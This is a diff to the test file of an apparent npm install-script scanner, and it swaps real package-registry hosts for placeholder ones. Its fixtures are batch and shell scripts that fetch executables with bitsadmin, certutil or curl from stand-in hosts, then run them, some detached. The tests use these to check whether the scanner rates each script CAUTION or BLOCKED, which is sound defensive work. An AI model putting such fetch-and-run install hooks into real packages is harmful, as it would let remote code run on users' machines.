@@ -9,8 +9,10 @@
  *  - a bundled executable the script starts detached or hidden: CRITICAL, as from JavaScript.
  *
  * The real case's shape: an install hook `node install.js` whose file spawns a bundled `install.bat`
- * (macOS: `install.sh`); the batch file fetches NuGet's client with bitsadmin from NuGet's download
- * host and runs `nuget install` (chromium 3.x, BLOCKED before as "runs a bundled Windows script").
+ * (macOS: `install.sh`); the batch file fetches a package manager's command-line client with
+ * bitsadmin from the host named after it and runs `<client> install <package>` (chromium 3.x, with
+ * .NET's package manager: BLOCKED before as "runs a bundled Windows script"). Registry hosts are never
+ * written here (configuration): the client is `pkgtool`, published on `dist.pkgtool.example`.
  */
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
@@ -36,19 +38,19 @@ const REAL_BAT = `@echo off
 rmdir /q/s bin >nul 2>&1
 mkdir bin\\win >nul 2>&1
 echo Fetching Installer
-bitsadmin /transfer nuget /priority NORMAL https://api.nuget.org/downloads/nuget.exe %CD%\\nuget.exe  >nul 2>&1
+bitsadmin /transfer pkgtool /priority NORMAL https://dist.pkgtool.example/downloads/pkgtool.exe %CD%\\pkgtool.exe  >nul 2>&1
 echo Installing
-:: nuget install Embed.Core -NonInteractive
-nuget install Embed.Wpf -NonInteractive
+:: pkgtool install Embed.Core -NonInteractive
+pkgtool install Embed.Wpf -NonInteractive
 for /F %%i in ('dir *.dll /b/s') do copy /y %%i %CD%\\bin\\win\\  >nul 2>&1
-del nuget.exe >nul 2>&1
+del pkgtool.exe >nul 2>&1
 `;
 const REAL_SH = '#!/bin/sh\ncurl -L https://github.com/embed-org/embed-browser/releases/download/0.0.1/lib.framework.zip > lib.framework.zip\nunzip lib.framework.zip\nrm -rf lib.framework.zip\n';
 
 test('the reader: downloads, the file each writes, runs of a downloaded file, digest checks, starts', () => {
   const f = scriptDownloads(REAL_BAT);
-  assert.equal(f.downloads.map((d) => [d.tool, d.url]), [['bitsadmin', 'https://api.nuget.org/downloads/nuget.exe']]);
-  assert.equal(f.runs.map((r) => [r.line, r.detached]), [[8, false]], 'the commented-out line is not a run');
+  assert.equal(f.downloads.map((d) => [d.tool, d.url]), [['bitsadmin', 'https://dist.pkgtool.example/downloads/pkgtool.exe']]);
+  assert.equal(f.runs.map((r) => [r.line, r.detached, r.args]), [[8, false, 'install Embed.Wpf -NonInteractive']], 'the commented-out line is not a run');
   assert.is(f.verified, false);
   const ps = scriptDownloads("Invoke-WebRequest -Uri https://dl.tool.dev/t.zip -OutFile $env:TEMP\\t.zip\nif ((Get-FileHash $env:TEMP\\t.zip).Hash -ne $sum) { exit 1 }\nExpand-Archive $env:TEMP\\t.zip bin\n");
   assert.equal(ps.downloads.map((d) => d.tool), ['powershell']);
@@ -59,12 +61,39 @@ test('the reader: downloads, the file each writes, runs of a downloaded file, di
   assert.equal(scriptStarts('@echo off\nstart "" /b "%~dp0\\svc.exe" -q\n').map((s) => [s.target, s.detached]), [['svc.exe', true]]);
 });
 
-test('the real case: a bundled batch file fetching a package manager from its official host and running it is CAUTION, not BLOCKED', async () => {
+test("the real case: a bundled batch file fetching a package manager's client from the host named after it and running it to install packages is CAUTION, not BLOCKED", async () => {
   const a = await pkg({ 'install.bat': REAL_BAT, 'install.sh': REAL_SH });
   assert.equal(hookRule(a), ['install_script_runs_download:MEDIUM']);
+  assert.match(a.findings.find((f) => f.ruleId === 'install_script_runs_download')!.message, /a package manager's client from the host named after it/);
   assert.not.ok(a.findings.some((f) => f.ruleId === 'install_spawns_payload'), 'a bundled script is read, not an opaque payload');
   assert.ok(a.installTimeFiles?.includes('package/install.bat'));
   assert.is(level(a), 'CAUTION');
+});
+
+test("variants of a package manager's client: PowerShell and curl, restore, its own index named as the source", async () => {
+  // PowerShell: the client saved under its published name, restoring a project's packages.
+  let a = await pkg({ 'install.bat': '@echo off\npowershell -NoProfile -File "%~dp0get.ps1"\n', 'get.ps1': 'Invoke-WebRequest -Uri https://get.pkgtool.example/latest/pkgtool.exe -OutFile pkgtool.exe\n& .\\pkgtool.exe restore Embed.sln -Source https://api.pkgtool.example/v3/index.json\nRemove-Item pkgtool.exe\n', 'install.sh': REAL_SH });
+  assert.equal(hookRule(a), ['install_script_runs_download:MEDIUM']);
+  assert.is(level(a), 'CAUTION');
+  // A shell script: curl -o, chmod, ./client install.
+  a = await pkg({ 'install.bat': '@echo off\n', 'install.sh': '#!/bin/sh\ncurl -fsSL -o pkgtool https://pkgtool.example/releases/pkgtool && chmod +x pkgtool\n./pkgtool install embed-native --no-progress > install.log 2>&1\nrm pkgtool\n' });
+  assert.equal(hookRule(a), ['install_script_runs_download:MEDIUM']);
+  assert.is(level(a), 'CAUTION');
+});
+
+test("look-alikes of a package manager's client stay BLOCKED: another host, another name, other arguments, a foreign source", async () => {
+  const cases: [string, string][] = [
+    ['the client from a host named after something else', '@echo off\nbitsadmin /transfer j https://cdn-update-service.example/downloads/pkgtool.exe %CD%\\pkgtool.exe\npkgtool install Embed.Wpf -NonInteractive\n'],
+    ['a file saved under the client\'s name but published under another', '@echo off\nbitsadmin /transfer j https://dist.pkgtool.example/downloads/update.bin %CD%\\pkgtool.exe\npkgtool install Embed.Wpf -NonInteractive\n'],
+    ['the program started without a package verb', '@echo off\nbitsadmin /transfer j https://dist.pkgtool.example/downloads/pkgtool.exe %CD%\\pkgtool.exe\npkgtool /quiet /norestart\n'],
+    ['over plain HTTP', '@echo off\nbitsadmin /transfer j http://dist.pkgtool.example/downloads/pkgtool.exe %CD%\\pkgtool.exe\npkgtool install Embed.Wpf\n'],
+    ['packages from a source on another host', '@echo off\ncertutil -urlcache -split -f https://dist.pkgtool.example/pkgtool.exe pkgtool.exe\npkgtool install Embed.Wpf -Source https://feed.cdn-update-service.example/v3/index.json\n'],
+    ['started detached', '@echo off\ncertutil -urlcache -split -f https://dist.pkgtool.example/pkgtool.exe pkgtool.exe\nstart /b pkgtool install Embed.Wpf\n'],
+  ];
+  for (const [what, bat] of cases) {
+    const a = await pkg({ 'install.bat': bat, 'install.sh': REAL_SH });
+    assert.is(level(a), 'BLOCKED', `${what}: ${hookRule(a).join(', ')}`);
+  }
 });
 
 test("variants: a binary from the package's own host, checked or not, is LOW; run, MEDIUM", async () => {
